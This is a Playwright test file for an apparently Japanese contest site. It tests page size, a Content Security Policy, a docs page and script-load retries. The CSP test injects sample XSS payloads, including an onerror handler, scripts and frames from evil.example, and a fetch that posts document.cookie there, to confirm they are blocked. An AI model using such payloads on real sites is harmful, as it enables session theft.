import { expect } from '@playwright/test';
import { test } from './support/test.ts';

/** The most that the top page may load, in bytes over the wire, pictures and calls included. */
const topLimit = 375_000;

test('a first visit to the top page loads little', async ({ page, contest }) => {
  await contest.setPeriod('entry');
  const session = await page.context().newCDPSession(page);
  await session.send('Network.enable');
  let bytes = 0;
  session.on('Network.loadingFinished', ({ encodedDataLength }) => {
    bytes += encodedDataLength;
  });
  await page.goto('/', { waitUntil: 'networkidle' });
  expect(bytes).toBeLessThan(topLimit);
  // Less than the size of the scripts would mean that nothing was counted.
  expect(bytes).toBeGreaterThan(150_000);
});

test('a script that is not the site’s own does not run, and nothing of it is loaded from elsewhere', async ({
  context,
}) => {
  // Not the tab of the test, in which nothing may be refused.
  const page = await context.newPage();
  const refused: string[] = [];
  await page.exposeFunction('tellRefusal', (directive: string) => refused.push(directive));
  await page.goto('/');
  await page.evaluate(() => {
    const tell = Reflect.get(window, 'tellRefusal') as (directive: string) => void;
    document.addEventListener('securitypolicyviolation', (event) => tell(event.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'document.body.dataset.broken = "by a script"';
    document.body.append(script);
    const from = document.createElement('script');
    from.src = 'https://evil.example/a.js';
    document.body.append(from);
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="x:" onerror="document.body.dataset.broken = 1">',
    );
    document.body.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">');
    document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe>');
    void fetch('https://evil.example/', { method: 'POST', body: document.cookie }).catch(() => undefined);
  });
  for (const directive of ['script-src-elem', 'script-src-attr', 'connect-src', 'frame-src', 'base-uri'])
    await expect.poll(() => refused).toContain(directive);
  await expect(page.locator('body')).not.toHaveAttribute('data-broken');
});

test('the documentation of the calls is readable', async ({ page }) => {
  await page.goto('/docs');
  await expect(page.getByText('/api/site_status')).toBeVisible();
});

test('when a script of a page can’t be fetched at first, then the page comes alive all the same', async ({
  context,
}) => {
  // Not the tab of the test, in which nothing may fail.
  const page = await context.newPage();
  await page.goto('/login');
  const places = await page.$$eval<string[], HTMLScriptElement>('script[defer]', (scripts) =>
    scripts.map(({ src }) => src).filter((src) => src.includes('/chunks/')),
  );
  expect(places.length).toBeGreaterThan(2);
  for (const place of places) {
    let failures = 0;
    await page.route(place, async (route) => {
      failures += 1;
      if (failures <= 1) await route.fulfill({ status: 429, body: 'busy' });
      else await route.continue();
    });
    await page.goto('/login');
    // Where the script is missing, nothing of the page answers.
    await expect(async () => {
      await page.getByRole('textbox', { name: '受験番号' }).fill('0000');
      await page.getByRole('button', { name: 'ログイン' }).click();
      const said = page.getByRole('alert').filter({ hasText: '受験番号' });
      await expect(said).toBeVisible({ timeout: 1_000 });
    }).toPass();
    await page.unroute(place);
  }
});
